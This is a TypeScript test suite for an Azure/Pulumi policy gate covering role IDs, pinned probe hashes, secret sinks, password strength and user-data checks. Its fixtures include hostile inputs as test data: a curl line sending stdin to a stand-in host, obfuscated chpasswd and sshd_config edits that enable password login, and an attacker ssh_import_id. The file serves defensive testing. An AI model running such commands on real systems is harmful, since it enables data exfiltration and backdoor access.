// The policy's own baseline (policy/baseline.ts) against the program's copies in lib/azure/roles.ts and the committed probes:
// a legitimate change touches both (and policy/ is CODEOWNERS-reviewed). Then the rules that rely on the baseline,
// on hand-built resources: role ids, lab role GUIDs, the probe pin, secret sinks, password strength, providers.
import { createHash, randomBytes } from "crypto";
import * as fs from "fs";
import * as path from "path";
import { gzipSync } from "zlib";
import { BUILTIN_ROLES, KEY_OPERATOR_ACTIONS, KEY_VAULT_ROLE_DATA_ACTIONS, LAB_CUSTOM_ROLES } from "../../lib/azure";
import { customRoleGuid } from "../../lib/naming";
import { BASELINE_BUILTIN_ROLES, BASELINE_LAB_ROLES, BASELINE_ROLE_IDS, PROBE_SHA256 } from "../../policy/baseline";
import { evaluate, PolicyContext, PolicyResourceView, rules } from "../../policy/rules";
import { decoded, passwordLoginIn, secretNeedles, sshKeysIn } from "../../policy/secrets";
import { ROOT } from "../helpers/program";

const ctx: PolicyContext = { ephemeral: false, allowedSshCidrs: [], subnetPrefix: "10.42.1.0/24" };
let n = 0;
function view(type: string, inputs: Record<string, any>, extra: Partial<PolicyResourceView> = {}): PolicyResourceView {
  const name = extra.name ?? `r${++n}`;
  return { type, name, urn: `urn:pulumi:t::p::${type}::${name}`, inputs, props: inputs, ...extra };
}
const fires = (id: string, resources: PolicyResourceView[], c: PolicyContext = ctx) =>
  evaluate(
    resources,
    c,
    rules.filter((r) => r.id === id),
  );
const sha256 = (file: string) =>
  createHash("sha256")
    .update(fs.readFileSync(path.join(ROOT, file)))
    .digest("hex");

describe("the baseline agrees with the program (a change must touch both)", () => {
  it("every built-in role id in lib/azure/roles.ts is the baseline's, under the same key", () => {
    for (const [key, id] of Object.entries(BUILTIN_ROLES))
      expect([key, (BASELINE_ROLE_IDS as Record<string, string>)[key]]).toEqual([key, id]);
  });
  it("the Key Vault roles' data actions and the Key Operator's actions are the baseline's", () => {
    for (const [id, r] of Object.entries(KEY_VAULT_ROLE_DATA_ACTIONS))
      expect({ name: r.name, dataActions: [...r.dataActions] }).toEqual({
        name: BASELINE_BUILTIN_ROLES[id].name,
        dataActions: [...BASELINE_BUILTIN_ROLES[id].dataActions],
      });
    expect([...KEY_OPERATOR_ACTIONS]).toEqual([...BASELINE_BUILTIN_ROLES[BASELINE_ROLE_IDS.storageAccountKeyOperator].actions]);
  });
  it("the lab's two custom roles (seed, actions, dataActions) are the baseline's", () => {
    for (const key of Object.keys(BASELINE_LAB_ROLES) as (keyof typeof BASELINE_LAB_ROLES)[]) {
      const program = LAB_CUSTOM_ROLES[key];
      expect({ seed: program.seed, actions: [...program.actions], dataActions: [...program.dataActions] }).toEqual({
        seed: BASELINE_LAB_ROLES[key].seed,
        actions: [...BASELINE_LAB_ROLES[key].actions],
        dataActions: [...BASELINE_LAB_ROLES[key].dataActions],
      });
    }
    expect(Object.keys(LAB_CUSTOM_ROLES).sort()).toEqual(Object.keys(BASELINE_LAB_ROLES).sort());
  });
  it("no policy file takes roles or permissions from lib/azure (type tokens and id parsers only), nor reads the probe it judges", () => {
    const files = (dir: string): string[] =>
      fs
        .readdirSync(dir, { withFileTypes: true })
        .flatMap((e) =>
          e.isDirectory()
            ? e.name === "node_modules"
              ? []
              : files(path.join(dir, e.name))
            : e.name.endsWith(".ts")
              ? [path.join(dir, e.name)]
              : [],
        );
    // lib/azure/tokens and lib/azure/ids only: a renamed token or id pattern makes the gate deny, never allow.
    const offenders = files(path.join(ROOT, "policy")).filter((f) =>
      /from "(\.\.\/)+lib\/azure(\/(?!(tokens|ids)")[^"]*)?"|readP(s)?robe\(|PROBE_PATH/.test(fs.readFileSync(f, "utf8")),
    );
    expect(offenders.map((f) => path.relative(ROOT, f))).toEqual([]);
    // ...and those two take nothing from the rest of lib/azure (roles, limits) on the way.
    for (const file of ["lib/azure/tokens.ts", "lib/azure/ids.ts"])
      expect(
        [...fs.readFileSync(path.join(ROOT, file), "utf8").matchAll(/from "([^"]+)"/g)].map((m) => m[1]).filter((m) => m !== "./tokens"),
      ).toEqual([]);
  });
  it("the probe pins are the committed probes' sha256 (changing a probe means changing its pin)", () => {
    expect(sha256("probe/vm-probe.py")).toBe(PROBE_SHA256.ubuntu);
    expect(sha256("probe/vm-probe.ps1")).toBe(PROBE_SHA256.windows);
  });
});

describe("role ids and lab roles judged by the baseline", () => {
  const RG = "/subscriptions/s/resourceGroups/lab-rg";
  const rg = view("azure-native:resources:ResourceGroup", { resourceGroupName: "lab-rg" });
  const def = (guid: string, actions: string[], dataActions: string[] = []) =>
    view("azure-native:authorization:RoleDefinition", {
      roleDefinitionId: guid,
      scope: RG,
      assignableScopes: [RG],
      permissions: [{ actions, dataActions }],
    });

  it("passes a lab role with its computed GUID", () => {
    expect(
      fires("grant-custom-roles", [rg, def(customRoleGuid(RG, "storage-listkeys-only"), [...BASELINE_LAB_ROLES.storageListKeys.actions])]),
    ).toEqual([]);
  });
  it("denies a lab role that reuses Owner's GUID (its permissions are the lab's, its id is not)", () => {
    const found = fires("grant-custom-roles", [rg, def(BASELINE_ROLE_IDS.owner, [...BASELINE_LAB_ROLES.storageListKeys.actions])]);
    expect(found.map((f) => f.message)).toEqual([
      expect.stringMatching(/its GUID 8e3af657-a8ff-443c-a75c-2fe8c4bcb635 is the built-in role "Owner"'s/),
    ]);
  });
  it("denies a lab role with any other GUID than the computed one", () => {
    const found = fires("grant-custom-roles", [
      rg,
      def("11111111-2222-3333-4444-555555555555", [], [...BASELINE_LAB_ROLES.secretGetSet.dataActions]),
    ]);
    expect(found.map((f) => f.message)).toEqual([expect.stringMatching(/is not the lab role's computed one/)]);
  });
  it("denies a lab role with a notActions list or extra permissions", () => {
    const d = view("azure-native:authorization:RoleDefinition", {
      roleDefinitionId: customRoleGuid(RG, "storage-listkeys-only"),
      scope: RG,
      assignableScopes: [RG],
      permissions: [{ actions: [...BASELINE_LAB_ROLES.storageListKeys.actions, "Microsoft.Storage/storageAccounts/*"] }],
    });
    expect(fires("grant-custom-roles", [rg, d])).toHaveLength(1);
  });
  it("an assignment to a role id the baseline does not know is a violation", () => {
    const a = view("azure-native:authorization:RoleAssignment", {
      principalId: "7d2c9a1e-5b3f-4e8a-9c6d-2f1e0a9b8c7d",
      roleDefinitionId: "/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/99999999-9999-9999-9999-999999999999",
      scope: RG,
    });
    expect(fires("grant-role-assignments", [a]).map((f) => f.message)).toEqual([
      expect.stringMatching(/neither a built-in role the gate knows nor one of the lab's custom roles/),
    ]);
  });
});

describe("the probe pin", () => {
  const vm = view("azure-native:compute:VirtualMachine", { vmName: "vm1", osProfile: { linuxConfiguration: {} } });
  const rc = (script: string) =>
    view("azure-native:compute:VirtualMachineRunCommandByVirtualMachine", {
      vmName: "vm1",
      runCommandName: "dsvm-lab-probe",
      source: { script },
    });
  it("denies a script that is not the pinned probe, even one line appended", () => {
    const probe = fs.readFileSync(path.join(ROOT, "probe/vm-probe.py"), "utf8");
    expect(
      fires("inventory-run-commands", [vm, rc(`${probe}\ncurl -d @/dev/stdin https://example.invalid\n`)])
        .map((f) => f.message)
        .join(),
    ).toMatch(/is not the lab's vm-probe as pinned in policy\/baseline\.ts/);
    expect(
      fires("inventory-run-commands", [vm, rc(probe)])
        .map((f) => f.message)
        .join(),
    ).not.toMatch(/pinned/);
  });
});

describe("generated secrets go only to their sink", () => {
  const value = `A${randomBytes(16).toString("hex")}z`;
  const pw = view(
    "random:index/randomPassword:RandomPassword",
    { length: 32, special: false },
    { props: { length: 32, special: false, result: value } },
  );
  const vault = view("azure-native:keyvault:Vault", { vaultName: "lab-kv" });
  const secret = (inputs: Record<string, any>) => view("azure-native:keyvault:Secret", { vaultName: "lab-kv", secretName: "s", ...inputs });

  it("passes the value in its own secret", () => {
    expect(fires("credential-secret-sinks", [pw, vault, secret({ properties: { value } })])).toEqual([]);
  });
  it.each([
    ["in a tag", { properties: { value }, tags: { v: value } }, /tags\.v carries the value/],
    [
      "base64 in contentType, mid-string",
      { properties: { value, contentType: `x-${Buffer.from(`pre${value}post`).toString("base64")}` } },
      /properties\.contentType carries/,
    ],
    ["hex in a tag", { properties: { value }, tags: { v: Buffer.from(value).toString("hex") } }, /tags\.v carries/],
    [
      "URL-encoded with a prefix",
      { properties: { value }, tags: { v: `https://x.invalid/?p=${encodeURIComponent(`#${value}`)}` } },
      /tags\.v carries/,
    ],
  ])("denies it %s, naming where, never showing it", (_t, inputs, says) => {
    const found = fires("credential-secret-sinks", [pw, vault, secret(inputs)]);
    expect(found.map((f) => f.message)).toEqual([expect.stringMatching(says)]);
    expect(JSON.stringify(found)).not.toContain(value);
  });
  it("denies it in a vault not of this stack", () => {
    const found = fires("credential-secret-sinks", [pw, vault, secret({ vaultName: "escrow-kv", properties: { value } })]);
    expect(found.map((f) => f.message)).toEqual([expect.stringMatching(/properties\.value carries the value.*a vault not of this stack/)]);
  });
  it("denies it in a second sink", () => {
    expect(
      fires("credential-secret-sinks", [pw, vault, secret({ properties: { value } }), secret({ properties: { value } })]).map(
        (f) => f.message,
      ),
    ).toEqual([expect.stringMatching(/already goes to another resource/)]);
  });
  it("finds the needles at every base64 alignment and in base64url", () => {
    for (const pre of ["", "a", "ab", "abc"]) {
      const text = Buffer.from(`${pre}${value}!`).toString("base64");
      expect(secretNeedles(value).some((nd) => text.includes(nd) || text.replace(/\+/g, "-").replace(/\//g, "_").includes(nd))).toBe(true);
    }
  });
});

describe("RandomPassword strength", () => {
  const rp = (inputs: Record<string, any>) => view("random:index/randomPassword:RandomPassword", inputs);
  it("passes the lab's two passwords", () => {
    expect(
      fires("credential-random-password-strength", [
        rp({ length: 32, special: false }),
        rp({ length: 32, special: true, overrideSpecial: "!#%*()-_=+[]{}:?" }),
      ]),
    ).toEqual([]);
  });
  it.each([
    ["short", { length: 16 }, /length 16 is below 32/],
    [
      "a tiny alphabet",
      { length: 32, upper: false, lower: false, numeric: false, overrideSpecial: "Aa1!" },
      /upper, lower, numeric are switched off.*draws from 1 distinct/,
    ],
    ["numeric off as a string", { length: 40, special: false, numeric: "false" }, /numeric is switched off/],
  ])("denies %s", (_t, inputs, says) => {
    expect(fires("credential-random-password-strength", [rp(inputs)]).map((f) => f.message)).toEqual([expect.stringMatching(says)]);
  });
});

describe("explicit providers with literal credentials", () => {
  it.each(["clientSecret", "clientCertificatePassword", "oidcToken"])("denies %s on a provider", (key) => {
    const p = view("pulumi:providers:azure-native", { subscriptionId: "x", [key]: "literal-value-123" });
    expect(fires("credential-provider-literals", [p]).map((f) => f.message)).toEqual([
      expect.stringMatching(new RegExp(`Provider .* sets ${key}`)),
    ]);
  });
  it("passes a provider without credentials", () => {
    expect(
      fires("credential-provider-literals", [view("pulumi:providers:azure-native", { location: "westeurope", useOidc: "true" })]),
    ).toEqual([]);
  });
});

describe("nested encodings in user data", () => {
  it.each([
    [
      "base64 sshd_config inside a script",
      `#!/bin/bash\necho ${Buffer.from("PasswordAuthentication   YES\n").toString("base64")} | base64 -d >> /etc/ssh/sshd_config`,
    ],
    [
      "a MIME part with Content-Transfer-Encoding base64",
      `Content-Type: multipart/mixed; boundary="b"\nMIME-Version: 1.0\n\n--b\nContent-Type: text/cloud-config\nContent-Transfer-Encoding: base64\n\n${Buffer.from(
        "#cloud-config\nssh_pwauth: true\n",
      )
        .toString("base64")
        .replace(/(.{20})/g, "$1\n")}\n--b--\n`,
    ],
    [
      "gzip inside base64 inside base64",
      Buffer.from(
        `#!/bin/sh\necho ${gzipSync(Buffer.from("echo 'u:p' | chpasswd")).toString("base64")} | base64 -d | gunzip | sh`,
      ).toString("base64"),
    ],
    ['a quote-split chpass""wd', "echo 'u:p' | chpass\"\"wd"],
  ])("%s turns password login on", (_t, text) => {
    expect(passwordLoginIn(decoded(text))).not.toEqual([]);
  });
  it.each([
    ["ssh_import_id", "#cloud-config\nssh_import_id: [gh:attacker]\n", "cloud-init ssh_import_id"],
    ["AuthorizedKeysFile", "echo 'AuthorizedKeysFile .ssh/ops_keys' >> /etc/ssh/sshd_config", "sshd AuthorizedKeysFile"],
    ["an sk-ecdsa key", `echo "sk-ecdsa-sha2-nistp256@openssh.com AAAA${randomBytes(40).toString("base64")} x"`, "an SSH public key"],
    ["an sk-ssh-ed25519 key", `echo "sk-ssh-ed25519@openssh.com AAAA${randomBytes(40).toString("base64")} x"`, "an SSH public key"],
    ["an ecdsa-sha2-nistp521 key", `echo "ecdsa-sha2-nistp521 AAAA${randomBytes(40).toString("base64")} x"`, "an SSH public key"],
  ])("%s adds a way in", (_t, text, what) => {
    expect(sshKeysIn(decoded(Buffer.from(text).toString("base64")))).toContain(what);
  });
  it("the config key itself in user data is not an extra key", () => {
    const key = `ssh-ed25519 AAAA${randomBytes(40).toString("base64")}`;
    const vm = view("azure-native:compute:VirtualMachine", {
      vmName: "vm1",
      userData: Buffer.from(`#!/bin/sh\necho "${key}"\n`).toString("base64"),
      osProfile: { linuxConfiguration: { disablePasswordAuthentication: true } },
    });
    expect(fires("credential-ssh-keys", [vm], { ...ctx, sshPublicKey: key })).toEqual([]);
    expect(fires("credential-ssh-keys", [vm], ctx)).toHaveLength(1);
  });
});

describe("generated secrets not known yet (preview) are traced by dependency", () => {
  const pw = view("random:index/randomPassword:RandomPassword", { length: 32 }, { name: "pw" });
  const vault = view("azure-native:keyvault:Vault", { vaultName: "lab-kv" });
  const dep = { dependencies: [pw.urn] };
  const secret = (vaultName: string) =>
    view(
      "azure-native:keyvault:Secret",
      { vaultName, secretName: "s", properties: { value: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" } },
      dep,
    );

  it("passes its one secret in the lab's vault", () => {
    expect(fires("credential-secret-sinks", [pw, vault, secret("lab-kv")])).toEqual([]);
  });
  it("denies a storage account, an outside vault's secret and a second secret that take an input from it", () => {
    const sa = view("azure-native:storage:StorageAccount", { accountName: "x", tags: { v: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" } }, dep);
    expect(
      fires("credential-secret-sinks", [pw, vault, secret("lab-kv"), sa, secret("escrow-kv"), secret("lab-kv")]).map((f) => f.message),
    ).toEqual([
      expect.stringMatching(/takes an input from random password pw \(its value not known yet\): remove it/),
      expect.stringMatching(/takes an input from random password pw \(its value not known yet\): remove it/),
      expect.stringMatching(/which already goes to another resource/),
    ]);
  });
});
